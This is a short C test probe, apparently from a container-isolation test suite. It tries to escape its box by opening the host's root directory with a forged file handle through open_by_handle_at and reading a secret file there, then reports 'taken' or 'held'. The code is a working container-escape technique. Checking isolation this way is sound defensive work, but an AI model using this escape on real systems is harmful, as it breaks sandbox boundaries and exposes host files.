// Opens the root of the machine's file system by its handle, and reads a file there that its box does not hold.
// defence: seccomp capabilities user
// why: it needs a refused call, and a capability that only root could have
// levels: namespaces docker
// proof: namespaces root
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    struct { struct file_handle head; unsigned number[2]; } root = {.head = {8, 1}, .number = {2, 0}};
    char text[64] = "";
    int usr = open("/usr", O_RDONLY | O_DIRECTORY);
    int top = open_by_handle_at(usr, &root.head, O_RDONLY | O_DIRECTORY);
    int file = top >= 0 ? openat(top, &"@SECRET@"[1], O_RDONLY) : -1;
    puts(file >= 0 && read(file, text, 63) > 0 && strstr(text, "taken") ? "taken" : "held");
    return 0;
}
